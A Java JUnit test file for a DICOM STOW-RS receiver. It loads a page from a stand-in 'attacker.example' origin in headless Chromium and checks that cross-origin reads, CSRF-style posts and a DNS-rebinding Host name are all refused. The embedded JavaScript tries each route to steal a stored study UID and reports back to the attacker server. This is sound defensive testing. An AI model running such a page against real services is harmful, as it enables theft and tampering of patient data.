package io.github.stowc.receiver;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import io.github.stowc.testdata.NeedsTools;
import io.github.stowc.testdata.Tools;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a page of another origin can do to a receiver in a real browser: nothing, unless its origin is allowed. */
@NeedsTools("chromium")
@Timeout(240)
class BrowserTest {
    /** The Study Instance UID of the instance that is stored before. */
    private static final String SECRET = "1.2.3.1";

    private static final String[] ATTEMPTS = {
        "fetch", "fetch no-cors", "post", "post no-cors", "beacon", "xhr", "form", "image", "script", "events", "frame"
    };

    @TempDir
    Path folder = Path.of("");

    private final List<String> log = Collections.synchronizedList(new ArrayList<>());

    /** The text of a message as JavaScript writes it. */
    private static String script(String instance) {
        String text = new String(Messages.message(instance, 10), StandardCharsets.ISO_8859_1);
        return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"").replace("\r\n", "\\r\\n") + "\"";
    }

    /** A page that tries everything, and then tells its own server what came of it, a line for each attempt. */
    private static String page(String receiver) {
        return """
                <!DOCTYPE html><meta charset=utf-8><body><iframe name=hidden></iframe><script>
                const R = "@R", T = '@T', out = [];
                async function attempt(name, f) {
                  let said;
                  try { said = String(await f()); } catch (e) { said = 'failed'; }
                  out.push(name + '\\t' + said.replace(/\\s+/g, ' '));
                }
                const post = (more, body) => fetch(R + '/studies', Object.assign({method: 'POST', body}, more));
                const element = (tag, set) => new Promise((done, fail) => {
                  const e = document.createElement(tag);
                  set(e); e.onload = () => done('loaded'); e.onerror = fail;
                  document.body.append(e);
                });
                (async () => {
                  await attempt('fetch', async () => (await fetch(R + '/studies')).text());
                  await attempt('fetch no-cors', async () => (await fetch(R + '/studies', {mode: 'no-cors'})).text());
                  await attempt('post', async () => (await post({headers: {'Content-Type': T}}, @1)).text());
                  await attempt('post no-cors', async () =>
                      (await post({mode: 'no-cors'}, new Blob([@2], {type: T}))).text());
                  await attempt('beacon', () => navigator.sendBeacon(R + '/studies', new Blob([@3], {type: 'text/plain'})));
                  await attempt('xhr', () => new Promise((done, fail) => {
                    const x = new XMLHttpRequest();
                    x.open('POST', R + '/studies'); x.setRequestHeader('Content-Type', T);
                    x.onload = () => done(x.responseText); x.onerror = fail; x.send(@4);
                  }));
                  await attempt('form', () => new Promise(done => {
                    const f = document.createElement('form');
                    f.method = 'post'; f.enctype = 'text/plain'; f.action = R + '/studies'; f.target = 'hidden';
                    const i = document.createElement('input');
                    i.name = @5; f.append(i); document.body.append(f);
                    document.querySelector('iframe').onload = () => done('sent'); f.submit();
                    setTimeout(() => done('sent'), 3000);
                  }));
                  await attempt('image', () => element('img', e => e.src = R + '/studies/1.2.3.1/rendered'));
                  await attempt('script', () => element('script', e => e.src = R + '/studies'));
                  await attempt('events', () => new Promise((done, fail) => {
                    const s = new EventSource(R + '/studies');
                    s.onopen = () => done('open'); s.onmessage = m => done(m.data); s.onerror = fail;
                  }));
                  await attempt('frame', async () => {
                    const e = document.createElement('iframe'); e.src = R + '/studies/1.2.3.1/series';
                    document.body.append(e);
                    await new Promise(done => { e.onload = done; setTimeout(done, 3000); });
                    return e.contentDocument.body.textContent;
                  });
                  await fetch('/result', {method: 'POST', body: out.join('\\n')});
                })();
                </script>
                """.replace("@R", receiver)
                .replace("@T", Messages.CONTENT_TYPE)
                .replace("@1", script("1.2.3.101"))
                .replace("@2", script("1.2.3.102"))
                .replace("@3", script("1.2.3.103"))
                .replace("@4", script("1.2.3.104"))
                .replace("@5", script("1.2.3.105"));
    }

    /** The outcome of each attempt of a page of a server of that name. */
    private Map<String, String> attack(String receiver, HttpServer server, String name) throws Exception {
        CompletableFuture<String> result = new CompletableFuture<>();
        byte[] page = page(receiver).getBytes(StandardCharsets.UTF_8);
        server.createContext("/", exchange -> answer(exchange, page, result));
        server.start();
        Process browser = browser("--remote-debugging-port=0", url(server, name));
        try {
            Map<String, String> outcomes = new TreeMap<>();
            for (String line : result.get(120, TimeUnit.SECONDS).split("\n")) {
                outcomes.put(line.substring(0, line.indexOf('\t')), line.substring(line.indexOf('\t') + 1));
            }
            return outcomes;
        } finally {
            end(browser);
            server.stop(0);
        }
    }

    private static void answer(HttpExchange exchange, byte[] page, CompletableFuture<String> result)
            throws IOException {
        if (exchange.getRequestURI().getPath().equals("/result")) {
            result.complete(new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
            exchange.sendResponseHeaders(204, -1);
        } else {
            exchange.getResponseHeaders().add("Content-Type", "text/html");
            exchange.sendResponseHeaders(200, page.length);
            exchange.getResponseBody().write(page);
        }
        exchange.close();
    }

    private static HttpServer server() {
        try {
            return HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static String url(HttpServer server, String name) {
        return "http://" + name + ":" + server.getAddress().getPort();
    }

    private Process browser(String... more) throws IOException {
        List<String> command = new ArrayList<>(List.of(
                Tools.require("chromium").toString(),
                "--headless=new",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-dev-shm-usage",
                "--no-first-run",
                "--no-proxy-server",
                "--user-data-dir=" + folder.resolve("profile"),
                "--host-resolver-rules=MAP attacker.example 127.0.0.1"));
        command.addAll(Arrays.asList(more));
        return new ProcessBuilder(command)
                .redirectError(ProcessBuilder.Redirect.DISCARD)
                .redirectOutput(folder.resolve("shown").toFile())
                .start();
    }

    private static void end(Process browser) throws InterruptedException {
        browser.descendants().forEach(ProcessHandle::destroyForcibly);
        browser.destroyForcibly().waitFor();
    }

    private StowReceiver.Builder receiver() {
        return StowReceiver.builder().folder(folder.resolve("stored")).log(log::add);
    }

    private void storeTheSecret(StowReceiver receiver) throws Exception {
        byte[] message = Messages.message("1.2.3.4", 10);
        try (RawClient client = new RawClient(receiver.url())) {
            String answer = client.send("POST /studies HTTP/1.1\r\nHost: localhost\r\nContent-Type: "
                            + Messages.CONTENT_TYPE + "\r\nContent-Length: " + message.length + "\r\n\r\n")
                    .send(message)
                    .answer();
            assertTrue(answer.startsWith("HTTP/1.1 200 "), answer);
        }
        while (log.isEmpty()) {
            Thread.sleep(10);
        }
        log.clear();
    }

    private List<String> stored() throws IOException {
        try (Stream<Path> files = Files.walk(folder.resolve("stored"))) {
            return files.map(file -> file.getFileName().toString())
                    .filter(name -> name.endsWith(".dcm"))
                    .sorted()
                    .toList();
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"localhost", "attacker.example"})
    void aPageOfAnotherOriginNeitherReadsNorStores(String name) throws Exception {
        try (StowReceiver receiver = receiver().start()) {
            storeTheSecret(receiver);
            Map<String, String> outcomes = attack(receiver.url(), server(), name);

            assertEquals(List.of("1.2.3.4.dcm"), stored());
            assertEquals(List.of(ATTEMPTS).stream().sorted().toList(), List.copyOf(outcomes.keySet()));
            assertFalse(outcomes.toString().contains(SECRET), outcomes.toString());
            for (String attempt : List.of("fetch", "post", "xhr", "image", "script", "events", "frame")) {
                assertEquals("failed", outcomes.get(attempt), attempt);
            }
            // They did reach the receiver.
            assertTrue(log.size() >= ATTEMPTS.length - 1, log.toString());
            log.forEach(line -> assertTrue(line.contains(" 403 "), line));
        }
    }

    @Test
    void aPageOfAnAllowedOriginReadsAndStores() throws Exception {
        HttpServer server = server();
        try (StowReceiver receiver =
                receiver().allowOrigin(url(server, "localhost")).start()) {
            storeTheSecret(receiver);
            Map<String, String> outcomes = attack(receiver.url(), server, "localhost");

            assertTrue(outcomes.get("fetch").contains(SECRET), outcomes.toString());
            assertTrue(outcomes.get("post").contains("1.2.3.101"), outcomes.toString());
            assertTrue(outcomes.get("xhr").contains("1.2.3.104"), outcomes.toString());
            assertTrue(stored().containsAll(List.of("1.2.3.101.dcm", "1.2.3.104.dcm", "1.2.3.4.dcm")));
        }
    }

    @Test
    void aNameThatWasMadeToMeanThisMachineReadsNothing() throws Exception {
        try (StowReceiver receiver = receiver().start()) {
            storeTheSecret(receiver);
            String own = shown(receiver.url() + "/none");
            assertTrue(own.contains("expected a path such as /studies"), own);
            for (String path : List.of("/none", "/studies")) {
                String shown = shown(receiver.url().replace("127.0.0.1", "attacker.example") + path);
                assertTrue(shown.contains("this receiver does not answer to the name in Host"), shown);
            }
        }
    }

    /** What the browser shows of a URL. */
    private String shown(String url) throws Exception {
        Process browser = browser("--dump-dom", url);
        try {
            assertTrue(browser.waitFor(60, TimeUnit.SECONDS));
            return Files.readString(folder.resolve("shown"));
        } finally {
            end(browser);
        }
    }
}
